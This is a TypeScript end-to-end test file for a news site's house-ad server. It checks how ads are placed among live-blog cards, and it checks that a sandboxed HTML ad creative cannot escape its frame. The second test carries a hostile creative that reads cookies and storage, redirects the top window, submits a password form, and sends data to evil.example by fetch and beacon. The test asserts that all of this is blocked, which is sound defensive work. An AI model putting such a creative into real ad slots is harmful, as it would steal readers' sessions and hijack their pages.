// Ads of the real house-ad server in real pages: between the cards of a live blog, and HTML creatives that want out of their frame.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { messagesOf } from '#messages';
import type { FilledSlot } from '#content/site/ad-decisions';
import { launchBrowser } from '../support/browser.ts';
import { createEditor } from '../support/editor.ts';
import { writeEvening } from '../support/live-newsroom.ts';
import { by, seeNew } from '../support/live-reader.ts';
import { startWholeSite, type WholeSite } from '../support/whole-site.ts';
import { frames, readOn } from './ads-page.ts';
import { watchedPage } from './watched-page.ts';

let site: WholeSite;
let browser: Browser;
beforeAll(async () => {
  [site, browser] = await Promise.all([startWholeSite(), launchBrowser()]);
});
afterAll(async () => {
  await browser.close();
  await site.close();
});

/** How many cards stand before each ad of a live blog, and after the last. */
const listRuns = (page: Page) =>
  page.evaluate(() => {
    const runs = [0];
    for (const child of document.querySelectorAll('[data-cards]>*')) {
      if (child.matches('[data-ad]')) runs.push(0);
      else runs.push((runs.pop() ?? 0) + 1);
    }
    return runs;
  });

/** Where the card that a reader has before them stands, and which it is. */
const readPlace = (page: Page, id: string) =>
  page.locator(`[data-cards]>[data-card="${id}"]`).evaluate((card) => Math.round(card.getBoundingClientRect().top));

test('AD-09, AD-40: Load More and SEE NEW have an ad after every eight cards, each another until all were there, and what is read stays where it is', async () => {
  const editor = createEditor(site);
  const names = ['One', 'Two', 'Three', 'Four', 'Five'];
  for (const name of names)
    await editor('POST', '/ads/line-items', {
      name,
      advertiser: 'Somebody',
      starts: '2026-01-01T00:00:00Z',
      target: '/newsletters',
      targeting: { zones: ['article-top', 'article-body', 'article-sidebar'] },
      creatives: [{ kind: 'native', sizes: ['300x250', '728x90', '970x90'], headline: name, text: 'Text.', sponsor: 'Somebody' }],
    });
  const ids = await writeEvening(site, 7_001, 40, { subType: 'microblog' });
  const { page, troubles, close } = await watchedPage(browser);
  await page.addInitScript(() => Object.defineProperty(document, 'hasFocus', { value: () => true }));
  const given: string[] = [];
  page.on('response', (response) => {
    if (!response.url().includes('/services/ads/news?')) return;
    void response.json().then(({ slots }: { slots: Record<string, FilledSlot | null> }) => {
      given.push(...Object.values(slots).flatMap((one) => one?.name ?? []));
    });
  });
  const streaming = page.waitForResponse((response) => response.url().includes('/events'));
  await page.goto(`http://news.localhost:${site.port}/politics/latest/live-blog/count-7001-rcna7001`);
  await streaming;
  expect(await listRuns(page)).toEqual([8, 7]);
  await page.locator('[data-cards]>[data-ad][data-state]').waitFor({ state: 'attached' });

  const read = ids.at(-14) ?? '';
  await page.locator(`[data-card="${read}"]`).scrollIntoViewIfNeeded();
  const place = await readPlace(page, read);
  await page.getByRole('link', { name: messagesOf('en').liveBlog.loadMore }).evaluate((link) => (link as HTMLElement).click());
  await page.locator('[data-cards]>[data-card]').nth(24).waitFor();
  await frames(page);
  expect(await listRuns(page)).toEqual([8, 8, 8, 1]);
  expect(await readPlace(page, read)).toBe(place);

  const news = page.waitForFunction(() => document.title.startsWith('(9)'));
  for (let number = 1; number <= 9; number += 1)
    await site.cards.post('rcna7001', { headline: `News ${number}`, text: 'The words of it.' }, by);
  await news;
  await seeNew(page).click();
  await page.locator('[data-cards]>[data-card]:focus').waitFor();
  const runs = await listRuns(page);
  expect(runs.reduce((sum, count) => sum + count, 0)).toBe(25);
  // none where cards have gone from below it, and an ad among those that came
  expect(Math.min(...runs.slice(0, -1))).toBeGreaterThanOrEqual(8);
  expect(runs.length).toBeGreaterThanOrEqual(3);
  expect(runs.at(-1)).toBeGreaterThan(0);
  await readOn(page);
  await expect.poll(() => page.locator('[data-cards]>[data-ad]:not([data-state="rendered"])').count()).toBe(0);
  expect(given.length).toBeGreaterThan(3);
  expect(new Set(given.slice(0, names.length)).size).toBe(Math.min(given.length, names.length));
  expect(troubles.filter((trouble) => !trouble.startsWith('404 '))).toEqual([]);
  await close();
});

// what the check at storing refuses; here it is stored all the same
const hostile = `<a id="way" href="{{click}}">Go</a>
<form id="form" action="/auth/users/login" method="post"><input name="password"></form>
<img src="https://evil.example/pixel.gif" alt=""><img src="{{click}}" alt="">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<link rel="stylesheet" href="https://evil.example/style.css"><script src="https://evil.example/script.js"></script>
<script>
  const found = {};
  const attempt = (name, work) => {
    try { found[name] = String(work()); } catch (error) { found[name] = error.name; }
  };
  attempt('origin', () => self.origin);
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.length);
  attempt('parent', () => parent.document.title);
  attempt('top', () => { top.location = 'https://evil.example/top'; });
  attempt('topReplace', () => { top.location.replace('https://evil.example/replaced'); });
  attempt('form', () => document.getElementById('form').submit());
  attempt('eval', () => eval('1 + 1'));
  attempt('worker', () => typeof navigator.serviceWorker === 'undefined' ? 'none' : navigator.serviceWorker.controller);
  const later = [
    fetch('/services/vitals', { method: 'POST' }).then(() => 'sent', (error) => error.name),
    fetch('https://evil.example/fetch').then(() => 'sent', (error) => error.name),
  ];
  found.beacon = '';
  try { navigator.sendBeacon('https://evil.example/beacon', 'x'); } catch (error) { found.beacon = error.name; }
  Promise.all(later).then((fetched) => parent.postMessage({ ...found, fetched }, '*'));
</script>`;

/** Stores a line item with a harmless creative, puts the hostile one into its place while the test lasts, and gives what a slot is filled with. */
const fillHostile = async (): Promise<FilledSlot> => {
  const editor = createEditor(site);
  const made = await editor('POST', '/ads/line-items', {
    name: 'Hostile',
    advertiser: 'Somebody',
    starts: '2026-01-01T00:00:00Z',
    creatives: [{ kind: 'html', sizes: ['300x250'], html: '<a href="{{click}}">Go</a>' }],
    target: '/newsletters',
  });
  const { id, item } = (made.json.data as unknown as { lineItem: { id: string; item: object } }).lineItem;
  onTestFinished(async () => void (await editor('POST', `/ads/line-items/${id}/pause`)));
  const changed = { ...item, creatives: [{ kind: 'html', sizes: ['300x250'], html: hostile }] };
  await site.database
    .updateTable('ad_line_item' as 'document')
    .set({ item: JSON.stringify(changed), revision: 2 })
    .where('id', '=', id)
    .execute();
  // a change of another one has this process read them all
  await editor('POST', `/ads/line-items/${id}/pause`);
  await editor('POST', `/ads/line-items/${id}/resume`);
  const answer = await site.get('/services/ads/news?path=/search&slots=a:footer:300x250');
  const { a } = (JSON.parse(answer.text) as { slots: { a: FilledSlot | null } }).slots;
  if (!a) throw new Error(answer.text);
  return a;
};

test('AD-29: a hostile creative reads nothing of ours, asks nobody, and leads nowhere but by a click', async () => {
  const { creative, click } = await fillHostile();
  if (creative.kind !== 'html') throw new Error('It is no HTML.');
  const origin = `http://news.localhost:${site.port}`;
  const context = await browser.newContext();
  const asked: string[] = [];
  await context.route(/^https:\/\//, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: 'evil' });
  });
  // what the policy blocks is announced as well, but never answered
  context.on('response', (response) => void (response.url().includes('/services/') && asked.push(response.url())));
  const page = await context.newPage();
  await page.context().addCookies([{ name: 'session', value: 'secret', url: origin }]);
  // a page of the site that frames it without care
  await page.route(`${origin}/careless`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<title>Ours</title><script>addEventListener('message', ({ data }) => { window.told = data; })</script><iframe src="${creative.src}" width="300" height="250"></iframe>`,
    }),
  );
  await page.goto(`${origin}/careless`);
  const told = await page.waitForFunction(() => (window as unknown as { told?: unknown }).told).then((handle) => handle.jsonValue());
  expect(told).toMatchObject({
    origin: 'null',
    cookie: 'SecurityError',
    storage: 'SecurityError',
    parent: 'SecurityError',
    top: 'SecurityError',
    topReplace: 'SecurityError',
    form: 'undefined',
    eval: 'EvalError',
    fetched: ['TypeError', 'TypeError'],
  });
  expect(page.url()).toBe(`${origin}/careless`);
  expect(asked).toEqual([]);

  const [opened] = await Promise.all([context.waitForEvent('page'), page.frameLocator('iframe').locator('#way').click()]);
  await opened.waitForURL(`${origin}/newsletters`);
  expect(asked.map((url) => new URL(url).pathname)).toEqual([click]);
  await context.close();
});
